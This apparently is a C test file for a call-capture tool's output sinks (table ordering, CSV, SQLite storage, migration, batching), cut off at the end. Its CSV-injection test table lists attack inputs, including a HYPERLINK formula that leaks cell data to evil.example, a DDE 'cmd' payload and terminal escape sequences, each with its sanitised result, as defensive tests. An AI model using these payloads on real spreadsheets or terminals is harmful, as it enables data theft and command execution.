	CHECK_INT(run_sink(&ct_sink_table, tmp_path("out.txt"), recs, 3, errbuf), CT_OK);
	CHECK_STR(slurp(tmp_path("out.txt")), want);
	ct_call_record_free(recs[0]);
	ct_call_record_free(recs[1]);
	ct_call_record_free(recs[2]);
}

/* The row of the table in text after its header line (its first 19 characters: the start). */
static int table_rows(const char *text, char starts[][20], int max)
{
	const char *p = strchr(text, '\n');
	int n = 0;

	while (p != NULL && p[1] != '\0' && n < max) {
		if (p[1] >= '0' && p[1] <= '9') {
			memcpy(starts[n], p + 1, 19);
			starts[n++][19] = '\0';
		}
		p = strchr(p + 1, '\n');
	}
	return n;
}

/*
 * Start order: a line waits for every call that started before it (told by
 * call_start), then comes out with the lines that waited for it; a live
 * table ("order" = "end") writes each line at once under a first line
 * that says so.
 */
static void test_table_order(void)
{
	struct ct_call_record *a = empty_record(), *b = empty_record(), *c = empty_record();
	char errbuf[CT_ERRBUF_SIZE] = "", starts[8][20];
	struct ct_sink_opt opt = { .name = "order", .value = "end" };
	struct ct_sink_args args;
	const char *path = tmp_path("order.txt");
	void *priv;

	a->call_id = strdup("a@x");
	a->start_us = T0;
	b->call_id = strdup("b@x");
	b->start_us = T0 + 1000000;
	c->call_id = strdup("c@x");
	c->start_us = T0 + 2000000;
	priv = ct_sink_open_target(&ct_sink_table, path, errbuf);
	CHECK(priv != NULL);
	if (priv == NULL)
		return;
	CHECK_INT(ct_sink_table.call_start(priv, a, errbuf), CT_OK);
	CHECK_INT(ct_sink_table.call_start(priv, b, errbuf), CT_OK);
	CHECK_INT(ct_sink_table.call_start(priv, c, errbuf), CT_OK);
	CHECK_INT(ct_sink_table.write(priv, c, errbuf), CT_OK);   /* ends first */
	CHECK_INT(ct_sink_table.write(priv, b, errbuf), CT_OK);
	CHECK_INT(ct_sink_table.flush(priv, errbuf), CT_OK);
	CHECK_INT(table_rows(slurp(path), starts, 8), 0);         /* a still open */
	CHECK_INT(ct_sink_table.write(priv, a, errbuf), CT_OK);
	CHECK_INT(ct_sink_table.flush(priv, errbuf), CT_OK);
	CHECK_INT(table_rows(slurp(path), starts, 8), 3);         /* all three, in start order */
	CHECK_STR(starts[0], "2024-03-01 12:34:56");
	CHECK_STR(starts[1], "2024-03-01 12:34:57");
	CHECK_STR(starts[2], "2024-03-01 12:34:58");
	CHECK_INT(ct_sink_table.close(priv, errbuf), CT_OK);

	/* a call whose record never comes does not hold the table back for ever */
	priv = ct_sink_open_target(&ct_sink_table, path, errbuf);
	CHECK(priv != NULL);
	if (priv != NULL) {
		int i, n;

		CHECK_INT(ct_sink_table.call_start(priv, a, errbuf), CT_OK);
		for (i = 0; i < 10000; i++)
			CHECK_INT(ct_sink_table.write(priv, c, errbuf), CT_OK);
		CHECK_INT(ct_sink_table.flush(priv, errbuf), CT_OK);
		CHECK_INT(table_rows(slurp(path), starts, 8), 0);   /* 10,000 held for a */
		CHECK_INT(ct_sink_table.write(priv, c, errbuf), CT_OK);
		CHECK_INT(ct_sink_table.flush(priv, errbuf), CT_OK);
		n = table_rows(slurp(path), starts, 8);
		CHECK_INT(n, 8);   /* the 10,001st: a is no longer waited for, all come out */
		CHECK_INT(ct_sink_table.close(priv, errbuf), CT_OK);
	}

	/* live: each line at once, after a line saying so */
	memset(&args, 0, sizeof(args));
	args.target = path;
	args.opts = &opt;
	args.n_opts = 1;
	priv = ct_sink_table.open(&args, errbuf);
	CHECK(priv != NULL);
	if (priv != NULL) {
		CHECK_INT(ct_sink_table.call_start(priv, a, errbuf), CT_OK);
		CHECK_INT(ct_sink_table.call_start(priv, b, errbuf), CT_OK);
		CHECK_INT(ct_sink_table.write(priv, b, errbuf), CT_OK);
		CHECK_INT(ct_sink_table.flush(priv, errbuf), CT_OK);
		CHECK(strncmp(slurp(path), "# live capture: one line per call as it ends "
		    "(not in start order)\nstart (UTC) ", 71) == 0);
		CHECK_INT(table_rows(slurp(path), starts, 8), 1);
		CHECK_STR(starts[0], "2024-03-01 12:34:57");
		CHECK_INT(ct_sink_table.close(priv, errbuf), CT_OK);
	}
	ct_call_record_free(a);
	ct_call_record_free(b);
	ct_call_record_free(c);
}

/*
 * CSV formula injection and control bytes (OWASP "CSV Injection"): caller
 * names from the wire, as the CSV cell they must become.  A leading = + - @
 * (after control bytes are removed, so "\t=" and "\r=" are caught too) gets
 * a single quote; a plain E.164 number stays a number.
 */
static const struct {
	const char *in;
	const char *cell;
} csv_attack[] = {
	{ "=HYPERLINK(\"http://evil.example/?l=\"&A1,\"Click\")",
	  "\"'=HYPERLINK(\"\"http://evil.example/?l=\"\"&A1,\"\"Click\"\")\"" },
	{ "=1+1", "'=1+1" },
	{ "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" },
	{ "-2+3", "'-2+3" },
	{ "@SUM(A1:A9)", "'@SUM(A1:A9)" },
	{ "\t=1+1", "'=1+1" },
	{ "\r=1+1", "'=1+1" },
	{ "\x1b=1+1", "'=1+1" },
	{ " =1+1", "\" =1+1\"" },                       /* a leading blank is text already */
	{ "+15551234567", "+15551234567" },             /* E.164: left as a number */
	{ "+1 555 123", "'+1 555 123" },
	{ "+", "'+" },
	{ "-", "'-" },
	{ "a=1", "a=1" },
	{ "Evil\x1b]0;owned\x07Name\x1b[2J", "Evil]0;ownedName[2J" },  /* ESC, BEL */
	{ "a\x7f" "b\x01" "c", "abc" },                 /* DEL, C0 */
	{ "x\xc2\x9b" "31my", "x31my" },                /* C1 CSI as UTF-8 */
	{ "line\nbreak\r", "linebreak" },
	{ "J\xc3\xbcrgen \xe2\x82\xac", "J\xc3\xbcrgen \xe2\x82\xac" },
	{ "bad\xff", "bad\xef\xbf\xbd" },                /* as in the JSON: U+FFFD */
	{ "\x07", "\"\"" },                             /* nothing left: an empty string */
};

static void test_csv_injection(void)
{
	char errbuf[CT_ERRBUF_SIZE] = "", want[1024], got[1024];
	struct ct_call_record *r;
	const char *text, *row;
	size_t i;

	for (i = 0; i < sizeof(csv_attack) / sizeof(csv_attack[0]); i++) {
		r = empty_record();
		r->caller_name = strdup(csv_attack[i].in);
		CHECK_INT(run_sink(&ct_sink_csv, tmp_path("out.csv"), &r, 1, errbuf), CT_OK);
		text = slurp(tmp_path("out.csv"));
		row = strchr(text, '\n');
		snprintf(got, sizeof(got), "%s", row != NULL ? row + 1 : "");
		/* the empty record's row with caller_name (third field) set */
		snprintf(want, sizeof(want), ",,%s%s", csv_attack[i].cell, csv_empty + 2);
		CHECK_STR(got, want);
		ct_call_record_free(r);
	}
}

/* A C1 control (CSI) and bidi overrides from the wire never reach the terminal. */
static void test_table_controls(void)
{
	struct ct_call_record *r = empty_record();
	char errbuf[CT_ERRBUF_SIZE] = "";
	const char *text, *row;

	r->caller = strdup("\xc2\x9b" "31mA\xe2\x80\xae" "B\xe2\x81\xa6");
	r->callee = strdup("\xd8\x9c" "1\xe2\x80\x8f" "2\xc2\xa0" "3");
	r->hangup_reason = strdup("\x1b[2J\x07\x7f" "ok");
	CHECK_INT(run_sink(&ct_sink_table, tmp_path("out.txt"), &r, 1, errbuf), CT_OK);
	text = slurp(tmp_path("out.txt"));
	row = strchr(text, '\n');
	CHECK(row != NULL);
	CHECK_STR(row != NULL ? row + 1 : "", "-                   -        ?31mA?B?         "
	    "?1?2\xc2\xa0" "3           -                     -                     "
	    "unfinished  -        -        -        -    -      -    -      "
	    "?[2J??ok\n1 calls: 0 answered, 0 busy, 0 noanswer, 0 cancelled, 0 failed, "
	    "1 unfinished\n");
	CHECK(strchr(text, 0x1b) == NULL && strstr(text, "\xc2\x9b") == NULL &&
	    strstr(text, "\xe2\x80\xae") == NULL);
	ct_call_record_free(r);
}

/*
 * Disk full in the middle of a record (here: the file size limit, with
 * SIGXFSZ ignored so write(2) fails with EFBIG): the held records are
 * written at flush, the file is cut back to the last record that fit
 * whole, the message counts the records lost, and later writes are
 * refused so nothing follows a hole.  Both text formats.
 */
static void test_sink_cut_back(void)
{
	static const struct ct_sink_ops *const ops[] = { &ct_sink_json, &ct_sink_csv };
	struct ct_call_record *r = full_record();
	char errbuf[CT_ERRBUF_SIZE], want[CT_ERRBUF_SIZE];
	struct rlimit saved, lim;
	void (*old)(int);
	const char *path = tmp_path("cut.out"), *text;
	size_t k, len, line, hdr, n;
	int i, rc;
	void *priv;

	CHECK_INT(getrlimit(RLIMIT_FSIZE, &saved), 0);
	old = signal(SIGXFSZ, SIG_IGN);
	for (k = 0; k < sizeof(ops) / sizeof(ops[0]); k++) {
		priv = ct_sink_open_target(ops[k], path, errbuf);
		CHECK(priv != NULL);
		if (priv == NULL)
			continue;
		line = k == 0 ? strlen(full_json) + 1 : strlen(csv_full);
		hdr = k == 0 ? 0 : strlen(csv_header);
		lim = saved;
		lim.rlim_cur = hdr + 3 * line + line / 2;    /* three records and a part of one */
		setrlimit(RLIMIT_FSIZE, &lim);
		/* A regular file holds whole records until flush: all 20 are taken. */
		rc = CT_OK;
		for (i = 0; i < 20 && rc == CT_OK; i++)
			rc = ops[k]->write(priv, r, errbuf);
		CHECK_INT(rc, CT_OK);
		CHECK_INT(ops[k]->flush(priv, errbuf), CT_ERR);
		n = 3;   /* the records that fit whole below the limit stay, the others go */
		snprintf(want, sizeof(want), "cannot write to '%s': File too large (%zu records that "
		    "did not fit were removed; the file ends with its last whole record)", path, 20 - n);
		CHECK_STR(errbuf, want);
		CHECK_INT(ops[k]->write(priv, r, errbuf), CT_ERR);   /* refused from now on */
		ops[k]->close(priv, errbuf);
		setrlimit(RLIMIT_FSIZE, &saved);
		text = slurp(path);
		len = strlen(text);
		/* JSON: n whole lines; CSV: the header and n rows */
		CHECK(len > 0 && text[len - 1] == '\n');
		CHECK_INT(len, hdr + n * line);
	}
	signal(SIGXFSZ, old);
	unlink(path);
	ct_call_record_free(r);
}

/*
 * A text output starts the write-back of what it wrote every
 * CT_OUTFILE_WRITEBACK bytes (so the once-a-second fdatasync finds little
 * left), and releases the page cache of what was written back but its
 * newest CT_OUTFILE_KEEP bytes: after 12 MB of records the start follows
 * the end of the last record written by less than a step and a buffer,
 * the release follows the start by the bytes kept (plus less than a
 * step), and every record reads back whole and in order.
 */
static void test_outfile_writeback(void)
{
	const char *path = tmp_path("writeback.out");
	char errbuf[CT_ERRBUF_SIZE], line[1000], back[1000];
	struct ct_outfile f;
	struct ct_buf b;
	struct stat st;
	FILE *in;
	int i, rc = CT_OK, same = 0;

	memset(line, 'x', sizeof(line) - 1);
	line[sizeof(line) - 1] = '\n';
	ct_buf_init(&b);
	CHECK_INT(ct_outfile_open(&f, path, false, errbuf), CT_OK);
	CHECK_INT(f.started, 0);
	CHECK_INT(f.dropped, 0);
	for (i = 0; i < 12000 && rc == CT_OK; i++) {
		snprintf(back, sizeof(back), "%08d", i);
		memcpy(line, back, 8);
		ct_buf_reset(&b);
		ct_buf_append(&b, line, sizeof(line));
		rc = ct_outfile_write(&f, &b, errbuf);
	}
	CHECK_INT(rc, CT_OK);
	CHECK(f.started >= 2 * CT_OUTFILE_WRITEBACK);
	CHECK(f.started <= f.good);
	CHECK(f.good - f.started < CT_OUTFILE_WRITEBACK + CT_OUTFILE_BUF);
	CHECK(f.dropped > 0);
	CHECK(f.started - f.dropped >= CT_OUTFILE_KEEP);
	CHECK(f.started - f.dropped < CT_OUTFILE_KEEP + CT_OUTFILE_KEEP);
	CHECK_INT(ct_outfile_close(&f, errbuf), CT_OK);
	CHECK_INT(stat(path, &st), 0);
	CHECK_INT(st.st_size, 12000 * (long long)sizeof(line));
	in = fopen(path, "r");
	CHECK(in != NULL);
	for (i = 0; in != NULL && i < 12000; i++) {
		snprintf(line, sizeof(line), "%08d", i);
		if (fread(back, 1, sizeof(back), in) == sizeof(back) &&
		    memcmp(back, line, 8) == 0 && back[8] == 'x' && back[sizeof(back) - 1] == '\n')
			same++;
	}
	CHECK_INT(same, 12000);
	if (in != NULL)
		fclose(in);
	unlink(path);
	ct_buf_fini(&b);
}

/* ---- SQLite -------------------------------------------------------------- */

/* Runs a query returning one integer (or -999 on error). */
static long long q_int(sqlite3 *db, const char *sql)
{
	sqlite3_stmt *st;
	long long v = -999;

	if (sqlite3_prepare_v2(db, sql, -1, &st, NULL) != SQLITE_OK)
		return v;
	if (sqlite3_step(st) == SQLITE_ROW)
		v = sqlite3_column_type(st, 0) == SQLITE_NULL ? -1000 : sqlite3_column_int64(st, 0);
	sqlite3_finalize(st);
	return v;
}

/* Runs a query returning one text value ("<null>" / "<error>"). */
static const char *q_text(sqlite3 *db, const char *sql)
{
	static char out[512];
	sqlite3_stmt *st;
	const unsigned char *t;

	strcpy(out, "<error>");
	if (sqlite3_prepare_v2(db, sql, -1, &st, NULL) != SQLITE_OK)
		return out;
	if (sqlite3_step(st) == SQLITE_ROW) {
		t = sqlite3_column_text(st, 0);
		snprintf(out, sizeof(out), "%s", t ? (const char *)t : "<null>");
	}
	sqlite3_finalize(st);
	return out;
}

static void check_db_content(const char *path, long long calls)
{
	sqlite3 *db = NULL;

	CHECK_INT(sqlite3_open_v2(path, &db, SQLITE_OPEN_READONLY, NULL), SQLITE_OK);
	CHECK_INT(q_int(db, "PRAGMA user_version"), 5);
	CHECK_STR(q_text(db, "SELECT caller_number || '>' || callee_number FROM calls WHERE id = 1"),
	    "+15551234567>+18005550199");
	CHECK_STR(q_text(db, "SELECT coalesce(caller_number, callee_number) FROM calls WHERE id = 2"),
	    "<null>");
	CHECK_INT(q_int(db, "SELECT capture_drops FROM calls WHERE id = 1"), 17);
	CHECK_INT(q_int(db, "SELECT evicted FROM calls WHERE id = 1"), 1);
	CHECK_STR(q_text(db, "SELECT cut_fields FROM calls WHERE id = 1"), "caller_name,hangup_reason");
	CHECK_INT(q_int(db, "SELECT evicted FROM calls WHERE id = 2"), 0);
	CHECK_STR(q_text(db, "SELECT cut_fields FROM calls WHERE id = 2"), "<null>");
	CHECK_STR(q_text(db, "SELECT capture_drops FROM calls WHERE id = 2"), "<null>");
	CHECK_STR(q_text(db, "PRAGMA journal_mode"), "wal");
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls"), calls);
	CHECK_INT(q_int(db, "SELECT count(*) FROM rtp_streams"), 2);   /* the full call's, once */
	CHECK_STR(q_text(db, "SELECT call_id FROM calls WHERE id = 1"),
	    "a84b4c76e66710@pc33.example.com");
	CHECK_STR(q_text(db, "SELECT start_time FROM calls WHERE id = 1"),
	    "2024-03-01T12:34:56.123456Z");
	CHECK_INT(q_int(db, "SELECT start_us FROM calls WHERE id = 1"), T0);
	CHECK_INT(q_int(db, "SELECT setup_ms FROM calls WHERE id = 1"), 1235);
	CHECK_INT(q_int(db, "SELECT duration_s * 1000 FROM calls WHERE id = 1"), 65432);
	CHECK_INT(q_int(db, "SELECT streams FROM calls WHERE id = 1"), 2);
	CHECK_INT(q_int(db, "SELECT truncated FROM calls WHERE id = 1"), 0);
	CHECK_STR(q_text(db, "SELECT caller_name FROM calls WHERE id = 3"), "J\xc3\xbcrgen");
	CHECK_INT(q_int(db, "SELECT final_code FROM calls WHERE id = 2"), -1000);
	CHECK_INT(q_int(db, "SELECT start_us FROM calls WHERE id = 2"), -1000);
	CHECK_STR(q_text(db, "SELECT disposition FROM calls WHERE id = 2"), "unfinished");
	CHECK_STR(q_text(db, "SELECT group_concat(src || '>' || dst || ' ' || ssrc, ';')"
	    " FROM rtp_streams WHERE call_rowid = 1"),
	    "192.0.2.10:40000>198.51.100.20:50000 0x1234ABCD;"
	    "[2001:db8::1]:40002>[2001:db8::2]:50002 0xDEADBEEF");
	CHECK_STR(q_text(db, "SELECT call_id || ' ' || codec || ' ' || mos || ' ' || dtmf"
	    " FROM rtp_streams WHERE call_rowid = 1 AND payload_type = 0"),
	    "a84b4c76e66710@pc33.example.com PCMU 4.3 123#");
	CHECK_INT(q_int(db, "SELECT count(*) FROM rtp_streams WHERE call_rowid = 1"
	    " AND payload_type IS NULL AND mos IS NULL AND mean_jitter_ms IS NULL"), 1);
	/* only the indexes calltap searches by: each one costs every insert (issue 9) */
	CHECK_STR(q_text(db, "SELECT group_concat(name, ' ') FROM (SELECT name FROM sqlite_master"
	    " WHERE type = 'index' AND tbl_name = 'calls' ORDER BY name)"),
	    "calls_history calls_key calls_missed_caller calls_missed_id calls_missed_number");
	/* start first: a new row lands at the index's right end (sqlite.c, indexes) */
	CHECK_STR(q_text(db, "SELECT group_concat(name, ' ') FROM pragma_index_info('calls_key')"),
	    "start_us call_id");
	CHECK_STR(q_text(db, "SELECT sensor || '|' || source || '|' || campaign || '|' ||"
	    " first_call || '|' || repeat_count || '|' || callback_s || '|' || callback_of"
	    " FROM calls WHERE id = 1"), "edge-1|Google Ads|Spring, 2024|0|3|90.123|m1@x");
	CHECK_INT(q_int(db, "SELECT end_us - start_us FROM calls WHERE id = 1"), 65432100);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls WHERE id = 2 AND sensor IS NULL AND"
	    " first_call IS NULL AND repeat_count IS NULL AND callback_s IS NULL AND end_us IS NULL"), 1);
	CHECK_INT(q_int(db, "SELECT count(*) FROM numbers"), 0);
	CHECK_STR(q_text(db, "SELECT value FROM meta WHERE key = 'created_by'"), PACKAGE_STRING);
	sqlite3_close(db);
}

static void test_sqlite_sink(void)
{
	struct ct_call_record *recs[3] = { full_record(), empty_record(), empty_record() };
	char errbuf[CT_ERRBUF_SIZE] = "", want[CT_ERRBUF_SIZE];
	const char *path = tmp_path("calls.db");
	sqlite3 *db = NULL;
	void *priv;

	recs[2]->caller_name = strdup("J\xc3\xbcrgen");
	CHECK_INT(run_sink(&ct_sink_sqlite, path, recs, 3, errbuf), CT_OK);
	check_db_content(path, 3);
	/*
	 * reopening appends; ids continue; a call is stored once (call_id,
	 * start_us): the replayed full call is ignored, its streams too; the
	 * empty records have no key (NULL) and are stored again
	 */
	CHECK_INT(run_sink(&ct_sink_sqlite, path, recs, 3, errbuf), CT_OK);
	check_db_content(path, 5);

	/* rows written before close are visible after close without flush */
	priv = ct_sink_open_target(&ct_sink_sqlite, path, errbuf);
	CHECK(priv != NULL);
	if (priv != NULL) {
		CHECK_INT(ct_sink_sqlite.write(priv, recs[1], errbuf), CT_OK);
		CHECK_INT(ct_sink_sqlite.close(priv, errbuf), CT_OK);
	}
	CHECK_INT(sqlite3_open_v2(path, &db, SQLITE_OPEN_READWRITE, NULL), SQLITE_OK);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls"), 6);

	/* a version 1 database (no capture_drops, evicted, cut_fields) is migrated, its rows kept */
	/*
	 * A version 1 database (no capture_drops, evicted, cut_fields, numbers
	 * columns, unique key) that stored a call twice (id 7 copies id 1, with
	 * its streams) is upgraded: the columns are added, its rows kept but
	 * the copy and its streams.
	 */
	CHECK_INT(sqlite3_exec(db, "DROP INDEX calls_key; DROP INDEX calls_missed_number; DROP INDEX calls_history;"
	    "DROP INDEX calls_missed_caller;"
	    "ALTER TABLE calls DROP COLUMN capture_drops;"
	    "ALTER TABLE calls DROP COLUMN evicted; ALTER TABLE calls DROP COLUMN cut_fields;"
	    "ALTER TABLE calls DROP COLUMN caller_number; ALTER TABLE calls DROP COLUMN callee_number;"
	    "INSERT INTO calls (id, call_id, start_us, caller) SELECT 7, call_id, start_us, caller"
	    " FROM calls WHERE id = 1;"
	    "INSERT INTO rtp_streams (call_rowid, call_id, ssrc) VALUES (7, 'copy', 'x');"
	    "CREATE INDEX calls_start_time ON calls(start_time);"   /* made by older versions */
	    "CREATE INDEX calls_caller ON calls(caller, start_us);"
	    "PRAGMA user_version = 1", NULL, NULL, NULL), SQLITE_OK);
	sqlite3_close(db);
	free(recs[0]->call_id);
	recs[0]->call_id = strdup("another-call@x");
	priv = ct_sink_open_target(&ct_sink_sqlite, path, errbuf);
	CHECK(priv != NULL);
	if (priv != NULL) {
		CHECK_INT(ct_sink_sqlite.write(priv, recs[0], errbuf), CT_OK);
		CHECK_INT(ct_sink_sqlite.close(priv, errbuf), CT_OK);
	}
	CHECK_INT(sqlite3_open_v2(path, &db, SQLITE_OPEN_READWRITE, NULL), SQLITE_OK);
	CHECK_INT(q_int(db, "PRAGMA user_version"), 5);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls"), 7);
	/* an index of an older version is kept, and maintained; the partial one is added */
	CHECK_INT(q_int(db, "SELECT count(*) FROM sqlite_master WHERE name = 'calls_start_time'"), 1);
	CHECK_INT(q_int(db, "SELECT count(*) FROM sqlite_master WHERE name = 'calls_caller'"), 1);
	CHECK_INT(q_int(db, "SELECT count(*) FROM sqlite_master WHERE name = 'calls_missed_caller'"), 1);
	CHECK_STR(q_text(db, "PRAGMA integrity_check"), "ok");
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls WHERE call_id ="
	    " 'a84b4c76e66710@pc33.example.com'"), 1);
	CHECK_INT(q_int(db, "SELECT count(*) FROM rtp_streams WHERE call_id = 'copy'"), 0);
	CHECK_INT(q_int(db, "SELECT count(*) FROM rtp_streams"), 4);
	CHECK_INT(q_int(db, "SELECT count(capture_drops) FROM calls"), 1);
	CHECK_INT(q_int(db, "SELECT count(evicted) FROM calls"), 1);
	CHECK_INT(q_int(db, "SELECT count(caller_number) FROM calls"), 1);
	CHECK_INT(q_int(db, "SELECT count(*) FROM sqlite_master WHERE name = 'calls_key'"), 1);

	/*
	 * A version 4 database, whose calls_key starts with call_id, gets it
	 * made again start first; its rows stay, and it still stores a call
	 * once.
	 */
	CHECK_INT(sqlite3_exec(db, "DROP INDEX calls_key; DROP INDEX calls_missed_id;"
	    "CREATE UNIQUE INDEX calls_key ON calls(call_id, start_us);"
	    "PRAGMA user_version = 4", NULL, NULL, NULL), SQLITE_OK);
	sqlite3_close(db);
	priv = ct_sink_open_target(&ct_sink_sqlite, path, errbuf);
	CHECK(priv != NULL);
	if (priv != NULL) {
		CHECK_INT(ct_sink_sqlite.write(priv, recs[0], errbuf), CT_OK);   /* stored already */
		CHECK_INT(ct_sink_sqlite.close(priv, errbuf), CT_OK);
	}
	CHECK_INT(sqlite3_open_v2(path, &db, SQLITE_OPEN_READWRITE, NULL), SQLITE_OK);
	CHECK_INT(q_int(db, "PRAGMA user_version"), 5);
	CHECK_STR(q_text(db, "SELECT group_concat(name, ' ') FROM pragma_index_info('calls_key')"),
	    "start_us call_id");
	CHECK_INT(q_int(db, "SELECT count(*) FROM sqlite_master WHERE name = 'calls_missed_id'"), 1);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls"), 7);
	CHECK_STR(q_text(db, "PRAGMA integrity_check"), "ok");

	/* a newer schema is refused */
	sqlite3_exec(db, "PRAGMA user_version = 7", NULL, NULL, NULL);
	sqlite3_close(db);
	CHECK(ct_sink_open_target(&ct_sink_sqlite, path, errbuf) == NULL);
	snprintf(want, sizeof(want), "database '%s' has schema version 7, newer than "
	    "this calltap (5)", path);
	CHECK_STR(errbuf, want);

	/* unwritable targets fail at open, naming the file */
	errbuf[0] = '\0';
	CHECK(ct_sink_open_target(&ct_sink_sqlite, "/nonexistent-dir/x.db", errbuf) == NULL);
	CHECK(strncmp(errbuf, "cannot open database '/nonexistent-dir/x.db': ", 46) == 0);
	errbuf[0] = '\0';
	CHECK(ct_sink_open_target(&ct_sink_sqlite, tmpdir, errbuf) == NULL);
	snprintf(want, sizeof(want), "cannot open database '%s': ", tmpdir);
	CHECK(strncmp(errbuf, want, strlen(want)) == 0);
	/* a file that is not a database */
	CHECK_INT(run_sink(&ct_sink_json, tmp_path("not.db"), recs, 1, errbuf), CT_OK);
	CHECK(ct_sink_open_target(&ct_sink_sqlite, tmp_path("not.db"), errbuf) == NULL);
	snprintf(want, sizeof(want), "cannot open database '%s': file is not a database",
	    tmp_path("not.db"));
	CHECK_STR(errbuf, want);
	ct_call_record_free(recs[0]);
	ct_call_record_free(recs[1]);
	ct_call_record_free(recs[2]);
}

/*
 * A batch is one transaction, committed by flush (the engine's 1 s timer)
 * or when it has been open COMMIT_MS (1 s) at the next record: a reader
 * sees nothing of an open batch and everything once committed.
 */
static void test_sqlite_batch(void)
{
	struct ct_call_record *r = empty_record();
	char errbuf[CT_ERRBUF_SIZE] = "";
	const char *path = tmp_path("batch.db");
	sqlite3 *db = NULL;
	void *priv = ct_sink_open_target(&ct_sink_sqlite, path, errbuf);
	int i, ok = 1;

	CHECK(priv != NULL);
	if (priv == NULL)
		goto out;
	for (i = 0; i < 501; i++)
		ok &= ct_sink_sqlite.write(priv, r, errbuf) == CT_OK;
	CHECK(ok);
	CHECK_INT(sqlite3_open_v2(path, &db, SQLITE_OPEN_READONLY, NULL), SQLITE_OK);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls"), 0);
	CHECK_INT(ct_sink_sqlite.flush(priv, errbuf), CT_OK);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls"), 501);
	/* no flush: the record after the batch's first second commits it */
	CHECK_INT(ct_sink_sqlite.write(priv, r, errbuf), CT_OK);
	usleep(1100 * 1000);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls"), 501);
	CHECK_INT(ct_sink_sqlite.write(priv, r, errbuf), CT_OK);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls"), 503);
	sqlite3_close(db);
	CHECK_INT(ct_sink_sqlite.close(priv, errbuf), CT_OK);
out:
	ct_call_record_free(r);
}

/*
 * A flood of unique Call-IDs against a store that has grown (issue 9): the
 * rows of one commit land at the right end of every index SQLite's sink
 * makes, so the commit writes a few pages, not one per row: 5 (Dec 6,
 * 32 KiB pages).  Keyed by Call-ID first (schema 4), the 300 rows with
 * random Call-IDs after 60,000 wrote 120 (SQLITE_DBSTATUS_CACHE_WRITE: the
 * pages a commit writes to the WAL).  Also: the callback statements that find a
 * call by its callback_of search the partial index calls_missed_id, not
 * the table (their WHERE must keep the index's terms, CT_SQL_MISSED_ROW).
 */
static void test_sqlite_flood_pages(void)
{
	char errbuf[CT_ERRBUF_SIZE] = "", id[40];
	const char *path = tmp_path("flood-pages.db");
	sqlite3 *db = NULL;
	sqlite3_stmt *st = NULL, *plan = NULL;
	void *priv = ct_sink_open_target(&ct_sink_sqlite, path, errbuf);
	uint64_t x = 0x9e3779b97f4a7c15ULL;
	int i, cur = 0, hi = 0, ok = 1, by_id = 0;
	const char *const stmt[] = {
		"EXPLAIN QUERY PLAN " CT_SQL_CALLBACK_SET("?1", CT_SQL_MISSED_ANY) "call_id = ?2",
		"EXPLAIN QUERY PLAN " CT_SQL_CALLBACK_SET("?1", CT_SQL_MISSED)
		    CT_SQL_CALLBACK_BY_CALLER("?2"),
	};

	CHECK(priv != NULL);   /* the schema of a new file */
	if (priv == NULL || ct_sink_sqlite.close(priv, errbuf) != CT_OK ||
	    sqlite3_open_v2(path, &db, SQLITE_OPEN_READWRITE, NULL) != SQLITE_OK)
		goto out;
	CHECK_INT(sqlite3_prepare_v2(db, "INSERT INTO calls (call_id, start_us, caller, direction,"
	    " disposition) VALUES (?1, ?2, 'attacker', 'inbound', 'unfinished')", -1, &st, NULL),
	    SQLITE_OK);
	for (i = 0; st != NULL && i < 60300; i++) {
		if (i == 0 || i == 60000)
			ok &= sqlite3_exec(db, "BEGIN", NULL, NULL, NULL) == SQLITE_OK;
		x ^= x << 13;   /* xorshift64: Call-IDs anywhere in the key space */
		x ^= x >> 7;
		x ^= x << 17;
		snprintf(id, sizeof(id), "%016llx@flood", (unsigned long long)x);
		sqlite3_bind_text(st, 1, id, -1, SQLITE_TRANSIENT);
		sqlite3_bind_int64(st, 2, INT64_C(1700000000000000) + i * INT64_C(1000));
		ok &= sqlite3_step(st) == SQLITE_DONE;
		sqlite3_reset(st);
		if (i == 59999) {
			ok &= sqlite3_exec(db, "COMMIT", NULL, NULL, NULL) == SQLITE_OK;
			sqlite3_db_status(db, SQLITE_DBSTATUS_CACHE_WRITE, &cur, &hi, 1);   /* reset */
		}
	}
	ok &= sqlite3_exec(db, "COMMIT", NULL, NULL, NULL) == SQLITE_OK;
	CHECK(ok);
	sqlite3_db_status(db, SQLITE_DBSTATUS_CACHE_WRITE, &cur, &hi, 0);
	if (cur >= 30)
		fprintf(stderr, "300 flood rows wrote %d pages\n", cur);
	CHECK(cur > 0 && cur < 30);
	for (i = 0; i < 2; i++) {
		CHECK_INT(sqlite3_prepare_v2(db, stmt[i], -1, &plan, NULL), SQLITE_OK);
		while (plan != NULL && sqlite3_step(plan) == SQLITE_ROW) {
			const char *d = (const char *)sqlite3_column_text(plan, 3);

			if (d != NULL && strstr(d, "calls_missed_id (call_id=?)") != NULL)
				by_id++;
		}
		sqlite3_finalize(plan);
		plan = NULL;
	}
	CHECK_INT(by_id, 2);
out:
	sqlite3_finalize(st);
	sqlite3_close(db);
}

/*
 * A batch is committed once it is a second old even with no flush: a crash
 * then loses at most the last second of records, not the last 499.
 */
static void test_sqlite_commit_time(void)
{
	struct ct_call_record *r = empty_record();
	char errbuf[CT_ERRBUF_SIZE] = "";
	const char *path = tmp_path("timed.db");
	sqlite3 *db = NULL;
	void *priv = ct_sink_open_target(&ct_sink_sqlite, path, errbuf);

	CHECK(priv != NULL);
	if (priv == NULL)
		goto out;
	CHECK_INT(sqlite3_open_v2(path, &db, SQLITE_OPEN_READONLY, NULL), SQLITE_OK);
	CHECK_INT(ct_sink_sqlite.write(priv, r, errbuf), CT_OK);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls"), 0);   /* batched */
	usleep(1050 * 1000);
	CHECK_INT(ct_sink_sqlite.write(priv, r, errbuf), CT_OK);
	CHECK_INT(q_int(db, "SELECT count(*) FROM calls"), 2);   /* the batch was 1 s old */
	sqlite3_close(db);
	CHECK_INT(ct_sink_sqlite.close(priv, errbuf), CT_OK);
out:
	ct_call_record_free(r);
}

/*
 * Lone INSERTs (no streams, no callback or history update: a flood INVITE's
